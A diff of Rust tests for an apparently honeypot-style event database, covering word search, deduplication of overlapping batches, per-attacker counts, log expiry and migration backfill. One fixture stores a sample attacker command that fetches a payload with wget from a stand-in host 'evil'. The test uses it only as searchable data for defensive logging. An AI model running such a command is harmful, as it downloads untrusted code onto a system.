@@ -200,7 +200,7 @@ async fn every_filter_selects_and_they_combine() {
     );
     assert_eq!(
         count(LogFilter {
-            text: some("a%B_C\"d"),
+            words: vec!["a%B_C\"d".to_owned()],
             ..f()
         })
         .await,
@@ -208,7 +208,7 @@ async fn every_filter_selects_and_they_combine() {
     );
     assert_eq!(
         count(LogFilter {
-            text: some("axb"),
+            words: vec!["axb".to_owned()],
             ..f()
         })
         .await,
@@ -216,7 +216,7 @@ async fn every_filter_selects_and_they_combine() {
     );
     assert_eq!(
         count(LogFilter {
-            text: some("0% FULL"),
+            words: vec!["0% FULL".to_owned()],
             ..f()
         })
         .await,
@@ -261,4 +261,139 @@ async fn credentials_are_found_by_each_condition() {
         ..CredentialFilter::default()
     };
     assert_eq!(db.credential_list(&by_peer, PAGE).await.unwrap().len(), 1);
+}
+
+/// Batches that overlap, as a reader sends them after a crash.
+async fn insert_twice(db: &Db, events: &[Event]) {
+    insert(db, &events[..events.len() / 2 + 1]).await;
+    insert(db, events).await;
+}
+
+#[tokio::test]
+async fn what_events_add_up_to_counts_each_event_once() {
+    let (_dir, db) = open().await;
+    let mut events: Vec<Event> = (1..=20).map(|n| login(n, b"same")).collect();
+    for event in &mut events {
+        event.flow = event.flow.take().map(|flow| Flow {
+            session: "one".into(),
+            ..flow
+        });
+    }
+    events[18].kind = "command".into();
+    events[19].kind = "disconnect".into();
+    events[18].fields = vec![
+        ("sha256".into(), "ab".repeat(32)),
+        ("stored".into(), "true".into()),
+        ("size".into(), "7".into()),
+        ("path".into(), "/tmp/x".into()),
+    ];
+    insert_twice(&db, &events).await;
+    assert_eq!(db.log_count().await.unwrap(), 20);
+    // Every third event has no peer: 14 of 20 count for the attacker.
+    let who = db.attacker_get("198.51.100.7").await.unwrap().unwrap();
+    assert_eq!(who.event_count, 14);
+    assert_eq!(
+        (who.session_count, who.command_count, who.artifact_count),
+        (1, 1, 1)
+    );
+    assert_eq!((who.service_count, who.decky_count), (1, 2));
+    assert_eq!(who.credential_count, 2, "one on each decky");
+    assert_eq!(
+        (who.first_seen, who.last_seen),
+        (Stamp(1000), Stamp(20_000))
+    );
+    let session = db.attack_session_get("one").await.unwrap().unwrap();
+    assert_eq!((session.events, session.commands), (14, 1));
+    assert_eq!(session.ended_at, Some(Stamp(20_000)));
+    let file = db.artifact_get(&"ab".repeat(32)).await.unwrap().unwrap();
+    assert_eq!(
+        (file.count, file.size_bytes, file.name.as_str()),
+        (1, 7, "/tmp/x")
+    );
+    let path = db.attacker_deckies("198.51.100.7").await.unwrap();
+    assert_eq!(path[0].decky, "decky-1", "where it was first");
+    let sum: i64 = db
+        .log_histogram(&LogFilter::default(), Stamp(0), Stamp(60_000_000), 1)
+        .await
+        .unwrap()
+        .iter()
+        .map(|bucket| bucket.count)
+        .sum();
+    assert_eq!(sum, 20);
+}
+
+#[tokio::test]
+async fn words_are_found_before_and_after_they_are_indexed() {
+    let (_dir, db) = open().await;
+    let said = |n, text: &str| event(n, vec![("cmd".into(), text.into())]);
+    insert(
+        &db,
+        &[
+            said(1, "wget http://evil/\npayload.sh"),
+            said(2, "ls -la"),
+            said(4, "WGET again"),
+        ],
+    )
+    .await;
+    for round in 0..2 {
+        let count = async |word: &str| {
+            let filter = LogFilter {
+                words: vec![word.to_owned()],
+                ..LogFilter::default()
+            };
+            db.log_list(&filter, PAGE).await.unwrap().len()
+        };
+        assert_eq!(count("wget").await, 2, "round {round}");
+        assert_eq!(count("payload").await, 1);
+        assert_eq!(count("payload.sh").await, 1);
+        assert_eq!(count("198.51.100").await, 3);
+        assert_eq!(count("nothing").await, 0);
+        let field = LogFilter {
+            fields: vec![("cmd".into(), "ls -la".into())],
+            ..LogFilter::default()
+        };
+        assert_eq!(db.log_list(&field, PAGE).await.unwrap().len(), 1);
+        while db.log_index_words().await.unwrap() > 0 {}
+    }
+}
+
+#[tokio::test]
+async fn what_is_too_old_goes_with_its_words_and_counts() {
+    let (_dir, db) = open().await;
+    let events: Vec<Event> = (1..=100).map(|n| login(n, b"x")).collect();
+    insert(&db, &events).await;
+    while db.log_index_words().await.unwrap() > 0 {}
+    assert_eq!(db.log_expire(Stamp(51_000)).await.unwrap(), 50);
+    assert_eq!(db.log_expire(Stamp(51_000)).await.unwrap(), 0);
+    assert_eq!(db.log_count().await.unwrap(), 50);
+    let filter = LogFilter {
+        words: vec!["root".to_owned()],
+        ..LogFilter::default()
+    };
+    assert_eq!(db.log_list(&filter, PAGE).await.unwrap().len(), 50);
+}
+
+#[tokio::test]
+async fn events_of_an_older_version_are_taken_in_once() {
+    let (_dir, db) = open().await;
+    let events: Vec<Event> = (1..=30).map(|n| login(n, b"x")).collect();
+    insert(&db, &events).await;
+    let before = db.attacker_get("198.51.100.7").await.unwrap().unwrap();
+    // As the migration leaves a database that already holds events.
+    for sql in [
+        "delete from attackers",
+        "delete from attacker_services",
+        "delete from attacker_deckies",
+        "delete from attack_sessions",
+        "delete from log_minutes",
+        "update counters set value = (select max(id) from logs) where name = 'backlog'",
+    ] {
+        sqlx::query(sql).execute(&db.pool).await.unwrap();
+    }
+    insert(&db, &[login(31, b"x")]).await;
+    while db.log_gather_backlog(&|_| None).await.unwrap() > 0 {}
+    let after = db.attacker_get("198.51.100.7").await.unwrap().unwrap();
+    assert_eq!(after.event_count, before.event_count + 1);
+    assert_eq!(after.session_count, before.session_count + 1);
+    assert_eq!(after.credential_count, before.credential_count);
 }
